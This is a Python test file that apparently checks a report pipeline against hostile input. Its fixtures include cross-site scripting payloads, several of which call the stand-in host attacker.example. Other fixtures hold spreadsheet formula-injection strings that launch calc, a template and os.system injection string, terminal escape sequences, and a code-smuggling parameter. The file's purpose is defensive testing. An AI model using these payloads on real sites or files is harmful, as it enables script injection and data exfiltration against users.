"""Foreign text attacks through the real pipeline: ingest, code, run, and a browser that looks."""

import csv
import json
import re
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pandas as pd
import pytest
import yaml
from markupsafe import Markup
from nbformat.v4 import new_code_cell, new_notebook, new_output
from openpyxl import load_workbook

from egovbench.base.errors import ExportError
from egovbench.reports.pages import render_page
from egovbench.site.outputs import check, shown
from project_copy import Copy

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = (
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    "<svg onload=alert('svg')><a xlink:href='javascript:alert(1)'>svg</a></svg>",
    "<iframe src='https://attacker.example/frame'></iframe>",
    "<style>@import url('https://attacker.example/style.css');</style>",
    "<body onload=alert('body') background='https://attacker.example/back.png'>",
    "[markdown](javascript:alert('markdown'))",
    "![picture](https://attacker.example/pixel.png)",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>data address</a>",
    "\"'><script src='https://attacker.example/script.js'></script>",
    "</figcaption></svg></style></title><script>alert('closed')</script>",
    "{{ 7 * 7 }} {% raw %} ${7*7} __import__('os').system('id')",
    "<meta http-equiv='refresh' content='0;url=https://attacker.example/'>",
    "<math><mtext></p><img src=x onerror=alert('math')></math>",
    "<form action='https://attacker.example/'><button formaction=javascript:alert(2)>go</button>",
    '=HYPERLINK("https://attacker.example/","formula")',
    "+1+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "\x1b]0;title\x07\x1b[31mred\x1b[0m terminal",
    "https://attacker.example/\"onmouseover=alert('link')",
    "javascript:alert('address')",
)
"""One line each, put before the first line of one answer each."""

NAME = "<b onmouseover=alert('name')>Estonia</b>\"'><script>alert('country')</script>"
LINKS = ("javascript:alert('law')", "data:text/html,<script>alert('law')</script>")
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
FILE_NAME = "<img src=x onerror=alert('file')>\x1b[31m\"'.txt"
TITLE = "</title><script>alert('title')</script><img src=x onerror=alert('title')>"
NOTE = '''""" + str(open("executed", "w")) + """'); open('executed', 'w') #\\\nimport os'''
CONFIGURATION = {
    "run": "attacked",
    "title": TITLE,
    "parameters": {"focal": "LUX", "peers": "eu27", "note": NOTE},
    "reports": [
        *({"notebook": name} for name in ("overview", "country", "robustness", "evidence")),
        {"notebook": "section", "matrix": {"section": ["A", "C", "D"]}},
        {"notebook": "note"},
        {"notebook": "links"},
    ],
}
DECLARED = 'focal: str = "LUX"\npeers: str = "eu27"\nnote: str = ""'
AROUND = ("{}", "<!--x--!>{}-->", "<svg><desc>{}</desc></svg>", "<table><tr>{}</tr></table>")
OF_A_PAGE = {
    "title": TITLE, "headline": TITLE, "difference": TITLE, "notes": [TITLE], "version": TITLE,
    "chart": "", "items": "",
}  # fmt: skip
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?|-inf|-?nan")


class _Elements(HTMLParser):
    """Collects what could act: elements, event handlers, and addresses."""

    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.handlers: list[str] = []
        self.addresses: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        acting = ("href", "src", "xlink:href", "action", "formaction", "data", "background")
        self.addresses += [value or "" for name, value in attrs if name in acting]


def attacked_text():
    """Luxembourg's masked document with a payload before the first line of some answers."""
    text = (ROOT / "data/raw/LUX-msq2024.txt").read_text(encoding="utf-8")
    table = pd.read_csv(ROOT / "data/responses/LUX.csv", dtype="str", keep_default_na=False)
    written = table[(table["status"] == "answered") & (table["item"].astype(int) >= 7)]
    firsts = [answer.splitlines()[0] for answer in written["answer"]]
    places = [first for first in firsts if text.count(first) == 1 and len(first) > 20]
    assert len(places) >= len(PAYLOADS)
    for payload, first in zip(PAYLOADS, places, strict=False):
        text = text.replace(first, f"{payload}\n{first}")
    return text


@pytest.fixture(scope="session")
def attacked(made_once):
    """A copy of the project with hostile answers, names and links; what its commands printed."""
    home = made_once("attacked", make_attacked) / "copy"
    return home, json.loads((home / "printed").read_text(encoding="utf-8"))


def make_attacked(folder):
    with Copy(folder / "copy") as copy:
        attack(copy)


def attack(copy):
    home = copy.root
    document = home / "data/raw" / FILE_NAME
    document.write_text(attacked_text(), encoding="utf-8")
    copy.write("note", "print(note)", DECLARED)
    link = "import IPython; IPython.display.display(IPython.display.Markdown('[x](javascript:x)'))"
    copy.write("links", link, DECLARED)
    configuration = home / "notebooks/runs/attacked.yml"
    configuration.write_text(yaml.safe_dump(CONFIGURATION), encoding="utf-8")
    countries = home / "data/countries.csv"
    table = pd.read_csv(countries, dtype="str", keep_default_na=False)
    table.loc[table["iso3"] == "EST", "name"] = NAME
    table.to_csv(countries, index=False)
    answers = home / "data/others/gtmi.csv"
    links = pd.read_csv(answers, dtype="str", keep_default_na=False)
    for start, link in enumerate(LINKS):
        links.loc[start :: len(LINKS), "link"] = link
    links.to_csv(answers, index=False)
    done = [
        copy.run("ingest", "--verbose", "--replace", document),
        copy.run("code", "--replace", "data/responses/LUX.csv"),
        copy.run("run", "--config", configuration, "--out", "outputs"),
        copy.run("compare", "LUX", "EST", "--html", "outputs/compared.html"),
        copy.run("template", "EST", "--out", "outputs/estonia.xlsx"),
    ]
    assert [code for code, *_ in done] == [0, 0, 1, 0, 0], done
    printed = [output + errors for _, output, errors in done]
    (home / "printed").write_text(json.dumps(printed), encoding="utf-8")


def _pages(home):
    pages = sorted((home / "outputs").rglob("*.html"))
    assert len(pages) == 11
    return pages


def test_the_payloads_reached_the_pages_and_no_element_of_them_acts(attacked):
    home, _ = attacked
    content = "\n".join(page.read_text(encoding="utf-8") for page in _pages(home))
    assert "&lt;script&gt;alert(&#x27;script&#x27;)" in content or "&lt;script&gt;alert(" in content
    assert "attacker.example" in content
    assert content.count("alert(") >= 10
    for part in ("alert('title')", "alert('country')"):
        assert part in unescape(content)
    assert "alert('country')" in unescape((home / "outputs/compared.html").read_text("utf-8"))
    # no element of foreign text acts
    for page in _pages(home):
        text = page.read_text(encoding="utf-8")
        found = _Elements()
        found.feed(text)
        scripts = re.findall(r"<script[^>]*>(.*?)</script>", text, re.DOTALL)
        assert not any("alert" in script or "attacker" in script for script in scripts), page
        assert not set(found.tags) & {"iframe", "object", "embed", "base", "form", "math"}, page
        assert not found.handlers, page
        for address in found.addresses:
            assert not address.strip().lower().startswith(("javascript:", "data:text", "vbscript:"))
    # every page has a policy that lets nothing in
    for page in _pages(home):
        found = re.search(
            r'http-equiv="Content-Security-Policy" content="([^"]*)"', page.read_text("utf-8")
        )
        assert found is not None, page
        policy = unescape(found[1])
        assert "default-src 'none'" in policy
        assert "http" not in policy
        assert "unsafe-eval" not in policy
        scripts = re.search(r"script-src ([^;]*)", policy)
        assert scripts is None or "unsafe-inline" not in scripts[1]


def test_a_browser_sees_no_dialog_and_no_request(attacked, visit):
    home, _ = attacked
    for address in _pages(home):
        page = visit(address)
        page.wait_for_timeout(200)
        assert page.strayed == [], address.name
        page.evaluate(
            "document.querySelectorAll('*').forEach(each => "
            "each.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})))"
        )
        assert page.strayed == [], address.name


def test_no_cell_of_a_table_or_workbook_starts_a_formula(attacked):
    home, _ = attacked
    tables = sorted((home / "outputs").rglob("*.csv"))
    assert tables
    marked = 0
    for table in tables:
        with table.open(encoding="utf-8", newline="") as stream:
            for row in csv.reader(stream):
                for cell in row:
                    harmless = not cell.startswith(FORMULA) or NUMBER.fullmatch(cell)
                    assert harmless, (table.name, cell[:60])
                    marked += cell.startswith(("'=", "'+", "'@"))
    assert marked >= 1
    # no cell of a workbook starts a formula; texts that would stand in the CSV files alone
    workbooks = sorted((home / "outputs").rglob("*.xlsx"))
    assert [path.name for path in workbooks] == ["tables.xlsx", "estonia.xlsx"]
    for path in workbooks:
        book = load_workbook(path)
        for cell in (cell for sheet in book for row in sheet for cell in row):
            place = (path.name, cell.coordinate, str(cell.value)[:60])
            assert cell.data_type != "f", place
            # without a target it leads to a place in the workbook
            target = cell.hyperlink.target if cell.hyperlink else None
            assert target is None or target.startswith("https://"), place
            if isinstance(cell.value, str):
                harmless = NUMBER.fullmatch(cell.value) or cell.value == "-1 to 1"  # a unit
                assert not cell.value.startswith(FORMULA) or harmless, place


def test_links_parameters_and_control_sequences_stay_text(attacked):
    home, printed = attacked
    fault = "text/markdown: an output leads to 'javascript:x'; expected a link to a web page"
    assert f"links: cell 3: {fault}" in printed[2]
    assert not (home / "outputs/attacked/links.html").exists()
    # no control sequence reaches the terminal
    for text in printed:
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
    # a parameter is a value and never code
    assert not list(home.rglob("executed"))
    notebook = nbformat.read(home / "outputs/attacked/notebooks/note.ipynb", as_version=4)
    (printed,) = (
        output.text
        for cell in notebook.cells
        for output in cell.get("outputs", [])
        if output.output_type == "stream"
    )
    assert printed == f"{NOTE}\n"


def test_a_browser_finds_nothing_that_acts_in_outputs_of_all_kinds(visit, tmp_path):
    cases = json.loads((ROOT / "tests/fixtures/hostile_markup.json").read_text("utf-8"))
    hostile = [around.replace("{}", acting) for acting in cases["acting"] for around in AROUND]
    pieces = []
    for markup in hostile:
        for kind in ("text/html", "text/markdown", "image/svg+xml"):
            held = f"<svg>{markup}</svg>" if kind == "image/svg+xml" else markup
            output = new_output("display_data", data={kind: held})
            try:
                found = list(shown(new_notebook(cells=[new_code_cell("x", outputs=[output])])))
                check(found)
            except ExportError:
                continue
            pieces += [piece.html for piece in found]
    assert len(pieces) > 50
    address = tmp_path / "page.html"
    opened = render_page("side_by_side.html.j2", **OF_A_PAGE, scores=Markup("".join(pieces)))
    address.write_text(opened, encoding="utf-8")
    page = visit(address, bypass_csp=True)
    page.evaluate(
        "document.querySelectorAll('main *').forEach(each => ['mouseover', 'focus', 'click']"
        ".forEach(kind => each.matches('a *, a') || each.dispatchEvent(new MouseEvent(kind))))"
    )
    page.wait_for_timeout(200)
    assert page.strayed == []
    assert page.url == address.as_uri()
